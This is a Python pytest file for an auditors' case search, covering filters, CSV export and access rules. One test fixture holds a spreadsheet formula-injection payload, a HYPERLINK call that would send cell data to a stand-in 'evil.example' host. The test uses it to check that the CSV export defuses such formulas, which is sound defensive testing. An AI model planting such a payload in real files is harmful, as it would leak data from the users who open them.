"""The auditors' case search (issue 11 §5) by customer, process, version, period, department and
outcome, through the page, its CSV and the API, on SQLite and PostgreSQL; the CSV holds every
matching case, guards against formula injection and is for auditors, administrators and owners.
The integrity filter selects by the stored result of the last verification."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from engine.services import cases, integrity
from engine.services.processes import publish_bundle
from engine.time.clock import utcnow
from tests.factories import actor, complete, script_process
from tests.integration.tamper import edit_case
from tests.web.test_pages import login
from tests.web.test_visibility import FEEDBACK

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def sampled(ctx):  # type: ignore[no-untyped-def]
    """A feedback case routed to Quality Inspection, and a finished case of a one-department
    process whose title is a spreadsheet formula."""
    sales1 = actor(ctx, "sales1")
    feedback = cases.start_case(ctx, sales1, "after_sales_feedback", {})
    feedback = complete(ctx, "sales1", feedback.id, "Record customer feedback", {**FEEDBACK, "category": "quality"})
    publish_bundle(ctx, script_process("tally", "x = 1"))
    tally = cases.start_case(ctx, sales1, "tally", {"title": FORMULA})
    complete(ctx, "sales1", tally.id, "Before", {})
    done = complete(ctx, "sales1", tally.id, "After", {})
    assert (done.status, done.outcome) == ("completed", "Done")
    return feedback.id, tally.id


def _ids(api, query: str, as_: str = "auditor1") -> set[int]:  # type: ignore[no-untyped-def]
    response = api.get(f"/cases?limit=500&{query}", as_=as_)
    assert response.status_code == 200, response.json
    return {c["id"] for c in response.json["cases"]}


def test_the_search_narrows_by_department_version_period_and_outcome(api, sampled):
    feedback, tally = sampled
    today = utcnow().date()
    assert {feedback, tally} <= _ids(api, "")
    assert feedback in _ids(api, "department=qc") and tally not in _ids(api, "department=qc")
    assert {feedback, tally} <= _ids(api, "version=1") and not {feedback, tally} & _ids(api, "version=99")
    assert {feedback, tally} <= _ids(api, f"from={today}&to={today}")
    assert not {feedback, tally} & _ids(api, f"from={today + timedelta(days=1)}")
    assert not {feedback, tally} & _ids(api, f"to={today - timedelta(days=1)}")
    assert tally in _ids(api, "outcome=done") and feedback not in _ids(api, "outcome=done")
    assert _ids(api, "process=tally&customer=Acme") == set()
    assert feedback in _ids(api, "process=after_sales_feedback&customer=Acme&department=sales")


@pytest.mark.parametrize(("query", "field"), [("version=two", "version"), ("from=2026-02-30", "from"),
                                               ("to=tomorrow", "to"), ("integrity=maybe", "integrity")])
def test_a_filter_that_cannot_be_applied_is_refused_naming_it(api, sampled, query, field):
    response = api.get(f"/cases?{query}", as_="auditor1")
    assert response.status_code == 422 and field in response.json["details"]


def test_integrity_selects_by_the_last_verification(ctx, api, sampled):
    feedback, tally = sampled
    edit_case(ctx, feedback, data={"edited": "by hand"})
    run = integrity.verify_all(ctx)
    assert [v.case_id for v in run.failures] == [feedback]
    assert feedback in _ids(api, "integrity=failed") and tally not in _ids(api, "integrity=failed")
    assert tally in _ids(api, "integrity=verified") and feedback not in _ids(api, "integrity=verified")


def test_the_page_offers_the_search_and_an_empty_field_means_any(app, sampled):
    feedback, tally = sampled
    page = login(app, "auditor1").get("/cases?department=qc&version=&from=&to=&outcome=")
    text = page.get_data(as_text=True)
    assert page.status_code == 200
    assert f'data-case-id="{feedback}"' in text and f'data-case-id="{tally}"' not in text
    assert 'name="department"' in text and 'name="outcome"' in text and "format=csv" in text
    assert "format=csv" not in login(app, "sales1").get("/cases").get_data(as_text=True)


def test_the_csv_holds_every_matching_case_with_formulas_defused(app, sampled):
    feedback, tally = sampled
    response = login(app, "auditor1").get("/cases?format=csv&limit=1&process=tally")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:5] == ["id", "process", "process_name", "version", "title"]
    by_id = {int(r[0]): r for r in rows[1:]}
    assert tally in by_id and feedback not in by_id
    assert by_id[tally][4] == "'" + FORMULA
    assert by_id[tally][8] == "Done"
    everything = login(app, "admin1").get("/cases?format=csv&limit=1").get_data(as_text=True)
    assert len(list(csv.reader(io.StringIO(everything)))) >= 3  # the header and both cases: no paging


def test_the_csv_is_refused_to_staff(app, sampled):
    assert login(app, "sales1").get("/cases?format=csv").status_code == 403
